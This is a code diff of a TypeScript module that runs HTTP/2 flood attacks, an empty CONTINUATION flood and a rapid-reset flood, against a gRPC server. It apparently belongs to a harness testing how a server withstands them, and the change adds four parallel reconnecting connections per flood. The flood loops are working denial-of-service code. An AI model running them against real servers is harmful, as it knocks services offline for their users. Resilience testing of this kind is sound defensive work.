@@ -1,5 +1,6 @@
-// The frame floods flood-child.ts runs: each keeps reconnecting while it floods one connection,
-// until stopped, and counts the frames it wrote.
+// The frame floods flood-child.ts runs: each floods a connection until the server ends it (its
+// GOAWAY or its close), then opens the next at once, until stopped, and counts the frames it
+// wrote.
 import {
   connectRaw,
   Flags,
@@ -16,11 +17,17 @@ export interface FloodLoop {
   stop(): Promise<string>;
 }
 
-/** `step` writes a batch on one connection and returns how many frames it held. */
+/** Connections a flood keeps going at once, each reconnecting on its own. */
+const PARALLEL = 4;
+
+/**
+ * `step` writes a batch on one connection and returns how many frames it held. The writer waits
+ * while the socket's buffer is full (as a kernel-blocked flooder would), but never reads.
+ */
 function reconnecting(
   host: string,
   port: number,
-  step: (connection: RawH2Connection, block: Buffer) => Promise<number>,
+  step: (connection: RawH2Connection, block: Buffer) => number,
   what: string,
 ): FloodLoop {
   let running = true;
@@ -28,10 +35,13 @@ function reconnecting(
   let goAways = 0;
   let frames = 0;
   const started = performance.now();
-  let current: RawH2Connection | undefined;
+  const open = new Set<RawH2Connection>();
   const block = headerBlock(grpcRequestHeaders(`${host}:${port}`, ADD_FLOATS));
-  const loop = (async () => {
+  const ended = (connection: RawH2Connection) =>
+    connection.socket.destroyed || connection.goAwayCode() !== undefined;
+  const loop = async () => {
     while (running) {
+      let current: RawH2Connection;
       try {
         current = await connectRaw(host, port);
       } catch {
@@ -39,18 +49,28 @@ function reconnecting(
         continue;
       }
       connections++;
-      while (running && !current.socket.destroyed) frames += await step(current, block);
+      open.add(current);
+      while (running && !ended(current)) {
+        // A full socket: wait until it drains or the server ends the connection.
+        if (current.socket.writableLength > 0) await current.drained(10);
+        else {
+          frames += step(current, block);
+          await Bun.sleep(0);
+        }
+      }
       if (current.goAwayCode() !== undefined) goAways++;
       current.destroy();
+      open.delete(current);
     }
-  })();
+  };
+  const loops = Array.from({ length: PARALLEL }, loop);
   return {
     async stop() {
       running = false;
-      current?.destroy();
-      await loop;
+      for (const connection of open) connection.destroy();
+      await Promise.all(loops);
       const seconds = (performance.now() - started) / 1000;
-      return `${what}: ${connections} connection(s), ${goAways} ended by GOAWAY; ${frames} frames written in ${seconds.toFixed(1)} s (${Math.round(frames / seconds)}/s)`;
+      return `${what}: ${connections} connection(s) over ${PARALLEL} at a time, ${goAways} ended by GOAWAY; ${frames} frames written in ${seconds.toFixed(1)} s (${Math.round(frames / seconds)}/s)`;
     },
   };
 }
@@ -63,15 +83,14 @@ export function emptyContinuationLoop(host: string, port: number): FloodLoop {
   return reconnecting(
     host,
     port,
-    async (connection, block) => {
+    (connection, block) => {
       let frames = 1000;
       if (!started.has(connection)) {
         connection.write(frame(FrameType.Headers, 0, 1, block));
         started.add(connection);
         frames++;
       }
-      if (!connection.write(batch)) await Bun.sleep(1);
-      await Bun.sleep(0);
+      connection.write(batch);
       return frames;
     },
     "empty CONTINUATION flood",
@@ -85,7 +104,7 @@ export function rapidResetLoop(host: string, port: number): FloodLoop {
   return reconnecting(
     host,
     port,
-    async (connection, block) => {
+    (connection, block) => {
       const frames: Buffer[] = [];
       for (let i = 0; i < 100; i++) {
         frames.push(frame(FrameType.Headers, Flags.EndHeaders, stream, block));
@@ -93,8 +112,7 @@ export function rapidResetLoop(host: string, port: number): FloodLoop {
         stream += 2;
         if (stream > 2 ** 31 - 2) stream = 1;
       }
-      if (!connection.write(Buffer.concat(frames))) await Bun.sleep(1);
-      await Bun.sleep(0);
+      connection.write(Buffer.concat(frames));
       return frames.length;
     },
     "rapid reset",
